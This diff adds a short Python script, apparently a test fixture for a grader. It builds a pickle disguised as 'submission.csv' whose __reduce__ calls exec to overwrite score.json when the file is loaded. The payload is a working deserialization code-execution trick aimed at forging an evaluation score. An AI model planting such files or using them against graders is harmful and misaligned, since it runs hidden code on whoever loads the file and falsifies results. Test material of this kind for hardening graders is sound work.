@@ -1,0 +1,11 @@
+"""Forgery: a pickle that would write a score when it is loaded."""
+import pickle
+
+
+class Runs:
+    def __reduce__(self):
+        return exec, ("open('score.json', 'w').write('0.0')",)
+
+
+with open('submission.csv', 'wb') as file:
+    pickle.dump(Runs(), file)
